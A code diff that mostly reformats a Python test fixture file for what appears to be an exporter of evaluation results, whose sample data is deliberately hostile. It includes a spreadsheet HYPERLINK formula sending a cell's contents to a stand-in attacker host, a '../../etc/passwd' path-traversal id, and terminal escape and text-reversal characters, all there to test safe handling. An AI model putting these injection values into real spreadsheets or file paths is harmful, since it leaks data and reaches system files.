@@ -18,7 +18,9 @@ FORMULA = '=HYPERLINK("http://evil.example?"&A1,"see")'
 ODD = 'a "quoted", text;\nof two lines\twith 量子, 🚀, \x1b[31m and \u202edesrever'
 
 
-def a_run_of(path: Path, finished: Iterable[Finished], *, topics: int | None = None, **manifest: Any) -> Path:
+def a_run_of(
+    path: Path, finished: Iterable[Finished], *, topics: int | None = None, **manifest: Any
+) -> Path:
     """A results directory that holds these, in this order. `topics` is how many the dataset has."""
     path.mkdir()
     done = list(finished)
@@ -39,19 +41,46 @@ def a_run_of(path: Path, finished: Iterable[Finished], *, topics: int | None = N
 
 
 def odd_topics() -> list[Finished]:
-    """Four topics, finished in another order than that of the dataset, with everything odd that they can have."""
+    """Four topics, finished in another order than that of the dataset, with everything odd that
+    they can have.
+    """
     hard = a_hard_won_span()
     return [
-        (a_failed_result(2, topic_id="../../etc/passwd", topic=FORMULA, calls=0, metadata={"n": None}), ()),
         (
-            a_result(0, topic_id="t0", topic=ODD, output=FORMULA, metadata={"=1+1": [1, {"deep": "@x"}]}),
-            (a_span("t0", "first", content=FORMULA, reasoning=ODD), a_span("t0", "second", cost=None)),
+            a_failed_result(
+                2, topic_id="../../etc/passwd", topic=FORMULA, calls=0, metadata={"n": None}
+            ),
+            (),
+        ),
+        (
+            a_result(
+                0, topic_id="t0", topic=ODD, output=FORMULA, metadata={"=1+1": [1, {"deep": "@x"}]}
+            ),
+            (
+                a_span("t0", "first", content=FORMULA, reasoning=ODD),
+                a_span("t0", "second", cost=None),
+            ),
         ),
         (
             a_result(3, topic_id="con", cost=None, output={"any": ["json", -1]}, status="degraded"),
-            (a_span("con", "third", **{name: getattr(hard, name) for name in ("tool_calls", "served")}),),
+            (
+                a_span(
+                    "con",
+                    "third",
+                    **{name: getattr(hard, name) for name in ("tool_calls", "served")},
+                ),
+            ),
         ),
-        (a_result(1, topic_id="量子", topic="", output="", sections=({"question": "q?", "answer": "a"},)), ()),
+        (
+            a_result(
+                1,
+                topic_id="量子",
+                topic="",
+                output="",
+                sections=({"question": "q?", "answer": "a"},),
+            ),
+            (),
+        ),
     ]
 
 
